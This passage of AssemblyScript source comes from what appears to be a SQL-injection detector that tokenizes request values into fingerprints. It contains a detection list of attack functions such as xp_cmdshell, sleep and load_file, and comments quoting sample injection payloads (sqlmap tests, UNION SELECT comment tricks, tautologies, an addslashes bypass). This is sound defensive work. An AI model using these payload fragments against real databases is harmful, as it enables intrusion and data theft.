// HTML rules skip them. fenceMask marks fenced bytes of the normalized value.
let fenced = false;
const fenceMaskStore = new StaticArray<u8>(NORM_CAP + NORM_SLACK);
const fenceMask: usize = changetype<usize>(fenceMaskStore);
function computeFences(): void {
  fenced = false;
  if (indexOf("```", 0) < 0) return;
  let inside = false;
  let i = 0;
  while (i < normLen) {
    if (startsAt(i, "```")) {
      inside = !inside; fenced = true;
      store<u8>(fenceMask + <usize>i, 1); store<u8>(fenceMask + <usize>i + 1, 1); store<u8>(fenceMask + <usize>i + 2, 1);
      i += 3; continue;
    }
    store<u8>(fenceMask + <usize>i, inside ? 1 : 0);
    i++;
  }
}
@inline function inFence(i: i32): bool { return fenced && load<u8>(fenceMask + <usize>i) != 0; }

// ---- SQL injection ---------------------------------------------------------------------------------------

// Token kinds, as fingerprint letters (libinjection's alphabet, simplified).
const T_NONE: u8 = 0;
const T_STRING: u8 = 0x73;   // s
const T_NUMBER: u8 = 0x31;   // 1
const T_WORD: u8 = 0x6e;     // n  bareword
const T_KEYWORD: u8 = 0x6b;  // k
const T_UNION: u8 = 0x55;    // U  union / intersect / except
const T_SELECT: u8 = 0x45;   // E  select (statement start)
const T_STMT: u8 = 0x54;     // T  insert/update/delete/drop/exec/… (statement start)
const T_LOGIC: u8 = 0x26;    // &  and / or / xor / && / ||
const T_OP: u8 = 0x6f;       // o  arithmetic / comparison
const T_CMP: u8 = 0x3d;      // =  comparison (=, <, >, <>, !=, like, is, in, between, regexp)
const T_FUNC: u8 = 0x66;     // f  word followed by '('
const T_SQLFUNC: u8 = 0x46;  // F  function only SQL uses in attacks (sleep, benchmark, extractvalue, …)
const T_VAR: u8 = 0x76;      // v  @var, @@version
const T_COMMENT: u8 = 0x63;  // c
const T_SEMI: u8 = 0x3b;     // ;
const T_LPAR: u8 = 0x28;
const T_RPAR: u8 = 0x29;
const T_COMMA: u8 = 0x2c;
const T_EVIL: u8 = 0x58;     // X  unparseable in a way only attacks produce (e.g. stray backslash-quote)

// A value is tokenized up to MAX_TOKENS tokens at a time; a longer one is read on in windows that overlap by
// WINDOW_OVERLAP tokens (sqliOnNormalized), so SQL after a padding of words or numbers is still read.
const MAX_TOKENS: i32 = 256;
const WINDOW_OVERLAP: i32 = 32;
// The fingerprint: raw memory (read at every rule; bounds-checked array reads were calls). Rules look a few
// tokens ahead without always checking ntok: 16 bytes to spare.
const toks = memory.data(MAX_TOKENS + 16);
@inline function tok(k: i32): u8 { return load<u8>(toks + <usize>k); }
let ntok = 0;
// Whether the last sqlTokenize stopped at MAX_TOKENS, and where the next window starts (the byte after token
// MAX_TOKENS - WINDOW_OVERLAP).
let tokTruncated = false;
let windowRestart = -1;
// Token k is a word joined by a hyphen to the word after it (sqlTokenize): one byte per token.
const hyphenFlags = memory.data(MAX_TOKENS + 16);
@inline function hyphenJoinedAt(k: i32): bool { return load<u8>(hyphenFlags + <usize>k) != 0; }
// Where word token k starts in the normalized value (set for word tokens only).
const wordStarts = memory.data((MAX_TOKENS + 16) * 4);
@inline function wordTokenIs(k: i32, w: string): bool { const s = load<i32>(wordStarts + (<usize>k << 2)); return wordEquals(s, s + w.length, w); }
// Whether the value's last comment (after its last "--", '#' or "/*") holds no letter: "-- -", "#", "/*".
function bareCommentTail(): bool {
  let k = normLen - 1;
  while (k >= 0) {
    const c = nb(k);
    if (c == 0x23 || (c == 0x2d && nb(k - 1) == 0x2d) || (c == 0x2a && nb(k - 1) == 0x2f)) return true;
    if (isAlpha(c) || isDigit(c)) return false;
    k--;
  }
  return false;
}
// Whether word tokens a and b are the same word.
function sameWordTokens(a: i32, b: i32): bool {
  const sa = load<i32>(wordStarts + (<usize>a << 2)), sb = load<i32>(wordStarts + (<usize>b << 2));
  let n = 0;
  while (n < 32 && isWordByte(nb(sa + n))) n++;
  if (n == 0 || n >= 32 || isWordByte(nb(sb + n))) return false;
  for (let j = 0; j < n; j++) if (nb(sa + j) != nb(sb + j)) return false;
  return true;
}
// After CASE WHEN: an operand, a comparison, an operand, then THEN (1=1 THEN, 'a'<>'b' THEN, x IS NULL THEN).
function caseCondition(k: i32): bool {
  const lim = k + 8 < ntok ? k + 8 : ntok;
  let cmp = false;
  for (let m = k; m < lim; m++) {
    const t = tok(m);
    if (t == T_CMP) {
      // a literal after it: 1=1, 'a'='a', x IS NULL ("price is high" compares words: prose)
      const r = m + 1 < lim ? tok(m + 1) : T_WORD;
      if (m == k || !(r == T_NUMBER || r == T_STRING || r == T_KEYWORD || r == T_LPAR)) return false;
      cmp = true;
      continue;
    }
    if (t == T_WORD && wholeWordToken(m, "then")) return cmp && m > k + 1;
    if (!(isOperand(t) || t == T_KEYWORD || t == T_LPAR || t == T_RPAR || t == T_OP)) return false;
  }
  return false;
}
// The word token k is w as a whole word (wordTokenIs compares w's length only).
function wholeWordToken(k: i32, w: string): bool { const s = load<i32>(wordStarts + (<usize>k << 2)); return wordEquals(s, s + w.length, w) && !isWordByte(nb(s + w.length)); }
let sawStringClose = false;
// In a quote context: where the value's bytes after the application's closing quote start.
let closedStringEnd = 0;
// Whether the tokenizer read a PostgreSQL JSON operator (#> #>> #- ->> @> <@ @? @@ ?| ?&) or a cast to json/jsonb.
let sawJsonOp = false;
let lastStringOpenProse = false;
let lastStringOpen = false;
let lastStringAfterSpace = false;

function wordEquals(s: i32, e: i32, w: string): bool {
  if (e - s != w.length) return false;
  for (let j = 0; j < w.length; j++) if (nb(s + j) != ch(w, j)) return false;
  return true;
}
// Long word lists are one '|'-separated string (a static string costs a header and padding, ~30 bytes each, and
// static data is at its page's end); entries are compared in place (pii.ts inWordList for a whole word).
// Whether an entry of `list` starts at i (ending by e) and no letter follows it.
function listEntryAt(list: string, i: i32, e: i32): bool {
  const q = changetype<usize>(list), n = list.length;
  let a = 0;
  while (a < n) {
    let b = a;
    while (b < n && load<u16>(q + (<usize>b << 1)) != 0x7c) b++;
    const m = b - a;
    if (i + m <= e) {
      let j = 0;
      while (j < m && nb(i + j) == <u32>load<u16>(q + (<usize>(a + j) << 1))) j++;
      if (j == m && !isAlpha(nb(i + m))) return true;
    }
    a = b + 1;
  }
  return false;
}

// The SQL words the lexer knows, with their token kind (the same before '('). Any other word is a bareword,
// or a call before '('. Looked up by hash (a prose word used to be compared with up to eight words by its
// first letter).
const SQL_TOKEN_WORDS: StaticArray<string> = [
  "and", "or", "xor",
  "all", "as", "asc", "order", "set", "schema", "into", "desc", "distinct", "database", "by", "procedure", "where", "limit", "from",
  "group", "having", "null", "not", "table", "trigger", "case",
  "alter", "update", "shutdown", "insert", "delete", "drop", "declare", "exec", "execute", "truncate", "create",
  "union", "intersect", "except", "select",
  "xp_cmdshell", "updatexml", "utl_inaddr", "sleep", "sys_eval", "information_schema", "dbms_pipe", "dbms_lock", "extractvalue",
  "benchmark", "pg_sleep", "waitfor", "load_file", "group_concat", "randomblob",
  "is", "in", "between", "like", "rlike", "regexp", "ilike", "notnull", "isnull",
  "exists", "true", "false", "collate",
];
const SQL_TOKEN_KINDS: StaticArray<u8> = [
  T_LOGIC, T_LOGIC, T_LOGIC,
  T_KEYWORD, T_KEYWORD, T_KEYWORD, T_KEYWORD, T_KEYWORD, T_KEYWORD, T_KEYWORD, T_KEYWORD, T_KEYWORD, T_KEYWORD, T_KEYWORD, T_KEYWORD, T_KEYWORD, T_KEYWORD, T_KEYWORD,
  T_KEYWORD, T_KEYWORD, T_KEYWORD, T_KEYWORD, T_KEYWORD, T_KEYWORD, T_KEYWORD,
  T_STMT, T_STMT, T_STMT, T_STMT, T_STMT, T_STMT, T_STMT, T_STMT, T_STMT, T_STMT, T_STMT,
  T_UNION, T_UNION, T_UNION, T_SELECT,
  T_SQLFUNC, T_SQLFUNC, T_SQLFUNC, T_SQLFUNC, T_SQLFUNC, T_SQLFUNC, T_SQLFUNC, T_SQLFUNC, T_SQLFUNC,
  T_SQLFUNC, T_SQLFUNC, T_SQLFUNC, T_SQLFUNC, T_SQLFUNC, T_SQLFUNC,
  T_CMP, T_CMP, T_CMP, T_CMP, T_CMP, T_CMP, T_CMP, T_CMP, T_CMP,
  T_FUNC, T_NUMBER, T_NUMBER, T_KEYWORD,
];
// Words that are SQL only as calls (a bareword otherwise): any function before '(', and functions attacks use.
const SQL_CALL_WORDS: StaticArray<string> = ["if", "mid"];
// (MySQL's ELT and GET_LOCK: sqlmap's boolean test AND ELT(1=2,2) and its time delay AND GET_LOCK('x',5).)
const SQL_ATTACK_CALL_WORDS: StaticArray<string> = ["concat", "char", "chr", "cast", "convert", "elt", "get_lock"];
// Open addressing, 128 slots of 24 bytes: the word's first 8 bytes and last 8 bytes (0 up to 8 bytes long),
// its length, kind, kind before '(', and its index (words over 16 bytes are compared whole on a hit).
const SQL_WORD_SLOTS: i32 = 128;
const sqlWordTable = memory.data(128 * 24);
@inline function sqlWordSlot(first: u64, last: u64, len: i32): i32 {
  return <i32>(((first ^ (last * 0xff51afd7ed558ccd) ^ <u64>len) * 0x9e3779b97f4a7c15) >> 57);
}
function initSqlWordTable(): void {
  // (ISNULL and NOTNULL compare in PostgreSQL, x ISNULL; before '(' they are MySQL's and SQL Server's calls.)
  for (let k = 0; k < SQL_TOKEN_WORDS.length; k++) {
    const w = SQL_TOKEN_WORDS[k];
    addSqlWord(w, k, SQL_TOKEN_KINDS[k], w == "isnull" || w == "notnull" ? T_FUNC : SQL_TOKEN_KINDS[k]);
  }
  for (let k = 0; k < SQL_CALL_WORDS.length; k++) addSqlWord(SQL_CALL_WORDS[k], -1, T_WORD, T_FUNC);
  for (let k = 0; k < SQL_ATTACK_CALL_WORDS.length; k++) addSqlWord(SQL_ATTACK_CALL_WORDS[k], -1, T_WORD, T_SQLFUNC);
}
// `k`: the word's index in SQL_TOKEN_WORDS, where words over 16 bytes are compared whole on a hit.
function addSqlWord(w: string, k: i32, kind: u8, parenKind: u8): void {
  const len = w.length;
  assert(len <= 16 || k >= 0);
  let first: u64 = 0, last: u64 = 0;
  for (let m = 0; m < len && m < 8; m++) first |= (<u64>w.charCodeAt(m)) << (<u64>(8 * m));
  if (len > 8) for (let m = 0; m < 8; m++) last |= (<u64>w.charCodeAt(len - 8 + m)) << (<u64>(8 * m));
  let slot = sqlWordSlot(first, last, len);
  while (load<u8>(sqlWordTable + <usize>(slot * 24), 16) != 0) slot = (slot + 1) & (SQL_WORD_SLOTS - 1);
  const e = sqlWordTable + <usize>(slot * 24);
  store<u64>(e, first); store<u64>(e, last, 8);
  store<u8>(e, <u8>len, 16); store<u8>(e, kind, 17); store<u8>(e, parenKind, 18);
  store<i32>(e, k, 20);
}
assert(SQL_TOKEN_KINDS.length == SQL_TOKEN_WORDS.length);
initSqlWordTable();

// The token kind of the normalized word [s, e) (folded to lower case), given the first byte after the
// spaces that follow it.
function classifyWord(s: i32, e: i32, nextNonSpace: u32): u8 {
  const len = e - s;
  if (len < 2 || len > 18) return T_WORD;
  // The normalization buffers have bytes to spare past NORM_CAP (NORM_SLACK): a word's first 8 bytes are one load.
  let first = load<u64>(normPtr + <usize>s);
  if (len < 8) first &= ((<u64>1) << (<u64>(8 * len))) - 1;
  const last: u64 = len > 8 ? load<u64>(normPtr + <usize>(e - 8)) : 0;
  let slot = sqlWordSlot(first, last, len);
  for (;;) {
    const t = sqlWordTable + <usize>(slot * 24);
    const tl = <i32>load<u8>(t, 16);
    if (tl == 0) break;
    if (tl == len && load<u64>(t) == first && load<u64>(t, 8) == last &&
        (len <= 16 || wordEquals(s, e, unchecked(SQL_TOKEN_WORDS[load<i32>(t, 20)])))) {
      return nextNonSpace == 0x28 ? load<u8>(t, 18) : load<u8>(t, 17);
    }
    slot = (slot + 1) & (SQL_WORD_SLOTS - 1);
  }
  return nextNonSpace == 0x28 ? T_FUNC : T_WORD;
}

// "x BETWEEN a AND b" is one comparison: its AND and upper bound are dropped, so the rules that read "x = a"
// read it too (HAVING 6567 BETWEEN 8791 AND 8791, IIF(1 BETWEEN 2 AND 2, …), CASE WHEN … BETWEEN … THEN).
// 1: after BETWEEN; 2: after its lower bound; 3: after its AND.
let betweenState = 0;
@inline function operandTok(t: u8): bool { return t == T_NUMBER || t == T_STRING || t == T_WORD || t == T_VAR; }
function pushTok(t: u8): void {
  if (betweenState != 0) {
    if (betweenState == 3 && operandTok(t)) { betweenState = 0; return; }
    betweenState = betweenState == 1 && operandTok(t) ? 2 : 0;
  }
  if (ntok < MAX_TOKENS) { store<u8>(toks + <usize>ntok, t); ntok++; }
}

// A '#' at i (before a letter or digit) after a SQL word joined to it or after a comment token, with a line
// break later before `end`; or a comment line of one word ("#ngrok\n", sqlmap's blank) at the value's start or
// right after a parenthesis, quote, semicolon or number: ")#ngrok\nAND#ngrok\n1=1" - and after anything once the
// value has had such a comment ("SELECT#x\ntdtT#x\nFROM"). (A hashtag follows a blank.)
let hashLineSeen = false;
function hashCommentAfter(i: i32, from: i32, end: i32): bool {
  const t = ntok > 0 ? tok(ntok - 1) : 0;
  if (ntok > 0 && (t == T_COMMENT || (i > 0 && isWordByte(nb(i - 1)) && (t == T_UNION || t == T_SELECT || t == T_KEYWORD || t == T_LOGIC || t == T_STMT)))) {
    for (let j = i + 1; j < end; j++) if (nb(j) == 0x0a) return true;
    return false;
  }
  const b = i > from ? nb(i - 1) : 0;
  if (!(i == from || b == 0x29 || b == 0x60 || b == 0x27 || b == 0x22 || b == 0x3b || isDigit(b) || hashLineSeen)) return false;
  let j = i + 1;
  while (j < end && j - i <= 16 && isWordByte(nb(j))) j++;
  return j < end && nb(j) == 0x0a;
}
// Tokenizes the normalized value starting in a quote context (0, ''' or '"'); fills toks/ntok.
// Whether toks/ntok are the plain tokenization of the whole value (appendedClause reuses them).
let tokensOfWholeValue = false;
// Line comments inside the value (not at its end): seen by the last sqlTokenize; read as blanks when set.
let sawInnerComment = false;
let commentsAsBlanks = false;
function sqlTokenize(ctx: u32, from: i32 = 0, to: i32 = -1): void {
  const end = to < 0 ? normLen : to;
  tokensOfWholeValue = ctx == 0 && from == 0 && to < 0 && !commentsAsBlanks; // (the comment-blanked reading is not the plain one)
  ntok = 0;
  tokTruncated = false;
  windowRestart = -1;
  sawInnerComment = false;
  sawStringClose = false;
  sawJsonOp = false;
  hashLineSeen = false;
  betweenState = 0;
  let i = from;
  if (ctx != 0) {
    // The value continues a string literal the application opened: it ends at the first unescaped quote. A
    // backslash-quote that opens the value closes it all the same: an application that escapes the quote turns it
    // into \\' (the backslash escaped, the quote free) - the bypass of addslashes-style filters.
    while (i < end) {
      const c = nb(i);
      if (c == 0x5c && i == from && ctx == 0x27 && nb(i + 1) == ctx) { i++; break; } // (\" opens JavaScript's breakouts: not here)
      if (c == 0x5c) { i += 2; continue; }
      if (c == ctx) { if (nb(i + 1) == ctx) { i += 2; continue; } break; }
      i++;
    }
    if (i >= end) { ntok = 0; return; } // never closes: the whole value is data
    pushTok(T_STRING);
    sawStringClose = true;
    i++;
    closedStringEnd = i;
  }
  while (i < end) {
    if (ntok >= MAX_TOKENS - WINDOW_OVERLAP) {
      if (windowRestart < 0) windowRestart = i;
      if (ntok >= MAX_TOKENS) { tokTruncated = true; return; }
    }
    const c = <u32>load<u8>(normPtr + <usize>i); // i < end <= normLen
    if (inFence(i)) { i++; continue; }
    if (isSpace(c)) { i++; continue; }
    // Comments: /* … */ (MySQL /*! … */ is code: its body is tokenized), -- , #
    if (c == 0x2f && nb(i + 1) == 0x2a) {
      if (nb(i + 2) == 0x21) { i += 3; while (isDigit(nb(i))) i++; continue; }
      let close = -1;
      if (to < 0) close = indexOf("*/", i + 2);
      else for (let k = i + 2; k + 1 < end; k++) if (nb(k) == 0x2a && nb(k + 1) == 0x2f) { close = k; break; } // within the parameter
      // An inline comment between tokens is whitespace to SQL; it counts as a comment only when it ends the input.
      if (close < 0 || close + 2 > end) { pushTok(T_COMMENT); return; }
      i = close + 2;
      continue;
    }
    if (c == 0x2a && nb(i + 1) == 0x2f) { i += 2; continue; }
    // '#' right before a letter or digit is an anchor, a number or a tag (href="#top", "#2 needle", #sale),
    // not MySQL's comment ('#' ends an injected clause at the end or before a space or newline).
    // Right after a SQL word or a comment, with a line after it, it is MySQL's comment all the same: union#foo\nselect,
    // all#zen\n#Zen\nselect (a hashtag line in prose follows a word that is no SQL).
    if (c == 0x23 && (isAlpha(nb(i + 1)) || isDigit(nb(i + 1))) && !hashCommentAfter(i, from, end)) { i++; continue; }
    // PostgreSQL's JSON operators #> #>> #- (not comments), -> ->>: one operator each ('{"a":1}'::jsonb #> '{a}').
    if ((c == 0x23 && (nb(i + 1) == 0x3e || nb(i + 1) == 0x2d)) || (c == 0x2d && nb(i + 1) == 0x3e)) {
      i += 2;
      if (nb(i) == 0x3e) { i++; sawJsonOp = true; } // ->> #>> ('->' alone is also PHP's and C's arrow)
      else if (c == 0x23) sawJsonOp = true;
      pushTok(T_OP);
      continue;
    }
    // A command's long option ("--disable-root-environ", --with-x) is a word: "--" then a letter, a word byte or '-'
    // on to a blank or the end ("admin'--", "'-- -" and "'--+" are comments).
    // Only where an option starts: after a blank, or after a quote that opens (a blank before it). admin'--a-b is
    // still a comment: that quote closes a string.
    if (c == 0x2d && nb(i + 1) == 0x2d && isAlpha(nb(i + 2)) && optionStart(i) && longOption(i + 2, end)) {
      let j = i + 2;
      while (j < end && (isWordByte(nb(j)) || nb(j) == 0x2d)) j++;
      pushTok(T_WORD);
      i = j;
      continue;
    }
    if ((c == 0x2d && nb(i + 1) == 0x2d) || c == 0x23) {
      // A line comment ends at the newline: SQL goes on after it ("-1#x\nunion\nselect …"). Read again as a
      // blank when one was inside the value (sqliOnNormalized): "1#\nAND#\n9227=9227".
      let j = c == 0x23 ? i + 1 : i + 2;
      while (j < end && nb(j) != 0x0a) j++;
      if (j >= end) { pushTok(T_COMMENT); return; }
      if (c == 0x23) hashLineSeen = true;
      i = j + 1;
      if (commentsAsBlanks) continue;
      sawInnerComment = true;
      pushTok(T_COMMENT);
      continue;
    }
    if (c == 0x27 || c == 0x22 || c == 0x60) {
      let j = i + 1;
      while (j < end) {
        const d = nb(j);
        if (d == 0x5c) { j += 2; continue; }
        if (d == c) { if (nb(j + 1) == c) { j += 2; continue; } break; }
        j++;
      }
      // A backtick never closed quotes no name (filter[` ON 1 UNION SELECT …#]: the application's own backtick
      // is the one it closes): the SQL after it is read.
      if (c == 0x60 && j >= end && ctx == 0) { i++; continue; } // (after a quote context's close, markup polyglots: "'`--> is no comment)
      if (ntok < MAX_TOKENS) store<i32>(wordStarts + (<usize>ntok << 2), i); // a literal's opening quote
      pushTok(c == 0x60 ? T_WORD : T_STRING);
      // An unterminated literal is closed by the application's quote: remember whether it reads as words.
      lastStringOpenProse = false;
      lastStringOpen = j >= end;
      lastStringAfterSpace = i > 0 && isSpace(nb(i - 1));
      if (j >= end) for (let k = i + 1; k < end; k++) if (isSpace(nb(k))) { lastStringOpenProse = true; break; }
      i = j + 1;
      continue;
    }
    if (isDigit(c) || (c == 0x2e && isDigit(nb(i + 1)))) {
      let j = i + 1;
      if (c == 0x30 && (nb(j) == 0x78 || nb(j) == 0x62)) j++;
      while (j < end && (isDigit(nb(j)) || isAlpha(nb(j)) || nb(j) == 0x2e)) j++;
      pushTok(T_NUMBER);
      i = j;
      continue;
    }
    // PostgreSQL: a cast (::jsonb, ::int, ::double precision) changes no token's role: skipped with its type.
    if (c == 0x3a && nb(i + 1) == 0x3a) {
      let j = i + 2;
      while (j < end && isSpace(nb(j))) j++;
      const ts = j;
      while (j < end && isWordByte(nb(j))) j++;
      if (wordEquals(ts, j, "json") || wordEquals(ts, j, "jsonb")) sawJsonOp = true;
      i = j;
      continue;
    }
    // JSON containment and path operators: @> <@ @? @@ (before a blank or quote: @@version is a variable),
    // ?| ?& and ? between two literals ('{"a":"b"}' ? 'a').
    if ((c == 0x40 && (nb(i + 1) == 0x3e || nb(i + 1) == 0x3f || (nb(i + 1) == 0x40 && !isWordByte(nb(i + 2))))) ||
        (c == 0x3f && (nb(i + 1) == 0x7c || nb(i + 1) == 0x26)) ||
        (c == 0x3f && ntok > 0 && tok(ntok - 1) == T_STRING && isSpace(nb(i + 1)) && nextIsQuote(i + 1, end))) {
      const single = c == 0x3f && nb(i + 1) == 0x20;
      i += single ? 1 : 2;
      if (!single) sawJsonOp = true; // a lone '?' between literals is also a ternary ('a' ? 'b' : 'c')
      pushTok(T_CMP);
      continue;
    }
    if (c == 0x40) { // @var, @@version, @@global.version_compile_os (a scope, then the name)
      let j = i + 1;
      const system = nb(j) == 0x40;
      if (system) j++;
      while (j < end && isWordByte(nb(j))) j++;
      if (system && nb(j) == 0x2e && isAlpha(nb(j + 1))) { j++; while (j < end && isWordByte(nb(j))) j++; }
      if (ntok < MAX_TOKENS) store<i32>(wordStarts + (<usize>ntok << 2), i); // (systemVariable reads it)
      pushTok(T_VAR);
      i = j;
      continue;
    }
    if (isAlpha(c) || c == 0x5f) {
      let j = i + 1;
      // N'text', X'41', B'01': a national, hex or bit string literal (its prefix is part of the literal).
      if ((c == 0x6e || c == 0x78 || c == 0x62) && nb(j) == 0x27 && (i == 0 || !isWordByte(nb(i - 1)))) { i = j; continue; }
      while (j < end && (load<u8>(BYTE_KIND + <usize>load<u8>(normPtr + <usize>j)) & 4) != 0) j++;
      let k = j;
      while (k < end && isSpace(<u32>load<u8>(normPtr + <usize>k))) k++;
      // An inline comment before the parenthesis is a blank to SQL: MAKE_SET/**/(1=2,2) is a call.
      while (k + 1 < end && nb(k) == 0x2f && nb(k + 1) == 0x2a) {
        let close = k + 2;
        while (close + 1 < end && !(nb(close) == 0x2a && nb(close + 1) == 0x2f)) close++;
        if (close + 1 >= end) break;
        k = close + 2;
        while (k < end && isSpace(nb(k))) k++;
      }
      let t = classifyWord(i, j, nb(k));
      // ELT is also an acronym before a parenthesis ("ELT (extract, load, transform)"): a call only glued to it.
      if (t == T_SQLFUNC && k > j && j - i == 3 && wordEquals(i, j, "elt")) t = T_FUNC;
      // A word joined to the next by a hyphen (select-all, select-a-plan: slugs, CSS classes) is one word,
      // not a word minus a column: noted per token (the SELECT rule reads it).
      if (ntok < MAX_TOKENS) {
        store<u8>(hyphenFlags + <usize>ntok, <u8>(nb(j) == 0x2d && isAlpha(nb(j + 1))));
        store<i32>(wordStarts + (<usize>ntok << 2), i);
      }
      if (betweenState == 2 && t == T_LOGIC && j - i == 3 && (nb(i) | 0x20) == 0x61) { betweenState = 3; i = j; continue; } // BETWEEN a AND
      // "order by", "group by": keyword pairs
      pushTok(t);
      if (t == T_CMP && j - i == 7 && wordEquals(i, j, "between")) betweenState = 1;
      i = j;
      continue;
    }
    if (c == 0x3b) { pushTok(T_SEMI); i++; continue; }
    if (c == 0x28) { pushTok(T_LPAR); i++; continue; }
    if (c == 0x29) { pushTok(T_RPAR); i++; continue; }
    if (c == 0x2c) { pushTok(T_COMMA); i++; continue; }
    if ((c == 0x7c && nb(i + 1) == 0x7c) || (c == 0x26 && nb(i + 1) == 0x26)) { pushTok(T_LOGIC); i += 2; continue; }
    if (c == 0x3d || c == 0x3c || c == 0x3e || (c == 0x21 && nb(i + 1) == 0x3d)) {
      let j = i + 1;
      while (j < end && (nb(j) == 0x3d || nb(j) == 0x3e || nb(j) == 0x3c)) j++;
      if (c == 0x3c && j == i + 1 && nb(j) == 0x40) { j++; sawJsonOp = true; } // <@
      pushTok(T_CMP);
      i = j;
      continue;
    }
    if (c == 0x2b || c == 0x2d || c == 0x2a || c == 0x2f || c == 0x25 || c == 0x7c || c == 0x26 || c == 0x5e || c == 0x7e) { pushTok(T_OP); i++; continue; }
    if (c == 0x5c) { i++; continue; }
    // MySQL's NOT written '!' right before an operand, where an operand goes (after AND/OR, a comparison, an
    // operator or '('): 1"OR!"a, OR !(false), = !1 (prose puts a blank or the end after it)
    if (c == 0x21 && ntok > 0 && (tok(ntok - 1) == T_LOGIC || tok(ntok - 1) == T_CMP || tok(ntok - 1) == T_OP || tok(ntok - 1) == T_LPAR)) {
      const d = nb(i + 1);
      if (d == 0x27 || d == 0x22 || d == 0x28 || d == 0x40 || isDigit(d)) { pushTok(T_OP); i++; continue; }
    }
    i++; // other punctuation: not SQL
  }
}

// Literals joined by operators from token k ('a' || 'b', '[1,2]' ->> 1, 2+1): the token after them, or -1.
function literalChain(k: i32): i32 {
  if (k >= ntok || (tok(k) != T_NUMBER && tok(k) != T_STRING)) return -1;
  k++;
  while (k + 1 < ntok && tok(k) == T_OP && (tok(k + 1) == T_NUMBER || tok(k + 1) == T_STRING)) k += 2;
  return k;
}
// The token of the ')' that closes the '(' at token k, or -1.
function closingParen(k: i32): i32 {
  let depth = 0;
  for (let m = k; m < ntok; m++) {
    if (tok(m) == T_LPAR) depth++;
    else if (tok(m) == T_RPAR && --depth == 0) return m;
  }
  return -1;
}

function optionStart(i: i32): bool {
  let b = i;
  while (b > 0 && isSpace(nb(b - 1))) b--;
  if (b == 0) return true;
  const q = nb(b - 1);
  if (q != 0x22 && q != 0x27) return b < i; // a word, then blanks, then the option
  // A quote right before: it must open the option ("--disable-x"); after a string closed (x' --no-way) the
  // dashes are a comment, blanks or not.
  return b == i && (b == 1 || isSpace(nb(b - 2)));
}
// From i (a letter after "--"): an option name of two or more letters with a '-' inside (--disable-root-environ,
// --no-cache), ended by a blank, a quote, '=' or the end: no comment is written so.
function longOption(i: i32, end: i32): bool {
  let j = i, dash = false;
  while (j < end && (isAlpha(nb(j)) || isDigit(nb(j)) || nb(j) == 0x2d || nb(j) == 0x5f)) { if (nb(j) == 0x2d) dash = true; j++; }
  const c = nb(j);
  return dash && j - i >= 4 && (j >= end || isSpace(c) || c == 0x22 || c == 0x27 || c == 0x3d);
}

// Whether what comes before the value's first quote (' or ") is one token, not a number alone: a user name
// or an address, not words, not a measure (18', 5'11").
function wordBeforeQuote(): bool {
  let letters = false;
  for (let i = 0; i < normLen; i++) {
    const c = nb(i);
    if (c == 0x27 || c == 0x22) return letters;
    if (isSpace(c)) return false;
    if (!isDigit(c)) letters = true;
  }
  return false;
}

// The first byte after blanks from i is a quote.
function nextIsQuote(i: i32, end: i32): bool {
  while (i < end && isSpace(nb(i))) i++;
  return i < end && (nb(i) == 0x27 || nb(i) == 0x22);
}

// After a call's '(' at token k: the tokens past its ')' are words only ("Sleep(5) hours a night"): prose.
function proseAfterCall(k: i32): bool {
  let m = closingParen(k);
  if (m < 0) m = ntok;
  if (m + 2 >= ntok || tokTruncated) return false;
  let words = 0;
  for (let q = m + 1; q < ntok; q++) {
    const t = tok(q);
    if (t == T_WORD) words++;
    else if (t != T_KEYWORD && t != T_CMP && t != T_LOGIC) return false;
  }
  return words >= 1 && ntok - m > 2;
}

// A statement word starts SQL, not an English clause ("; delete old files"): DROP TABLE, DELETE FROM,
// INSERT INTO, UPDATE x SET, EXEC xp_…/'…'/(…), DECLARE @x, or a statement alone before a comment or the end.
function statementShape(k: i32): bool {
  if (tok(k) != T_STMT) return true; // SELECT and attack-only functions have their own shape
  if (k + 1 >= ntok) return true;
  const a = tok(k + 1);
  if (a == T_KEYWORD || a == T_COMMENT || a == T_SEMI || a == T_VAR || a == T_STRING || a == T_LPAR || a == T_SQLFUNC || a == T_FUNC) return true;
  if (a == T_WORD && k + 2 < ntok) { const b = tok(k + 2); return b == T_KEYWORD || b == T_STRING || b == T_LPAR || b == T_COMMENT || b == T_SEMI; }
  return false;
}

// After the statement word at token k, its object: DELETE FROM t, INSERT INTO t, UPDATE t SET, DROP / TRUNCATE /
// ALTER / CREATE TABLE (DATABASE, SCHEMA, PROCEDURE, TRIGGER) t. The token after the object, or -1.
function statementObjectEnd(k: i32): i32 {
  if (k + 2 >= ntok) return -1;
  const a = tok(k + 1), b = tok(k + 2);
  if (wholeWordToken(k, "delete")) return a == T_KEYWORD && wholeWordToken(k + 1, "from") && b == T_WORD ? k + 3 : -1;
  if (wholeWordToken(k, "insert")) return a == T_KEYWORD && wholeWordToken(k + 1, "into") && b == T_WORD ? k + 3 : -1;
  if (wholeWordToken(k, "update")) return a == T_WORD && b == T_KEYWORD && wholeWordToken(k + 2, "set") ? k + 3 : -1;
  if (!(wholeWordToken(k, "drop") || wholeWordToken(k, "truncate") || wholeWordToken(k, "alter") || wholeWordToken(k, "create"))) return -1;
  if (!(a == T_KEYWORD && (wholeWordToken(k + 1, "table") || wholeWordToken(k + 1, "database") || wholeWordToken(k + 1, "schema") ||
    wholeWordToken(k + 1, "procedure") || wholeWordToken(k + 1, "trigger")))) return -1;
  return b == T_WORD ? k + 3 : -1;
}
// The string literal at token k holds "X=" and the token after it is X: ' OR 'a=' a, a tautology whose quotes
// slipped ('OR'a='a, sent as such by scanners).
function misquotedTautology(k: i32): bool {
  const q = load<i32>(wordStarts + (<usize>k << 2));
  const quote = nb(q);
  let j = q + 1;
  while (j < normLen && isWordByte(nb(j))) j++;
  const len = j - q - 1;
  if (len == 0 || nb(j) != 0x3d || nb(j + 1) != quote) return false;
  const s = skipBlanks(j + 2); // the next token (a number has no recorded start)
  for (let m = 0; m < len; m++) if (nb(s + m) != nb(q + 1 + m)) return false;
  return !isWordByte(nb(s + len));
}
// GROUP BY among tokens [from, to).
function groupByBefore(from: i32, to: i32): bool {
  for (let g = from; g + 1 < to; g++) if (tok(g) == T_KEYWORD && tok(g + 1) == T_KEYWORD && wholeWordToken(g, "group") && wholeWordToken(g + 1, "by")) return true;
  return false;
}
function sessionIdentityName(k: i32): bool {
  return wholeWordToken(k, "current_user") || wholeWordToken(k, "session_user") || wholeWordToken(k, "system_user") || wholeWordToken(k, "current_role") ||
    wholeWordToken(k, "current_schema") || wholeWordToken(k, "current_database");
}
// Token k is BY, WHERE, HAVING, WHEN, THEN or ELSE.
function clauseWordBefore(k: i32): bool {
  const t = tok(k);
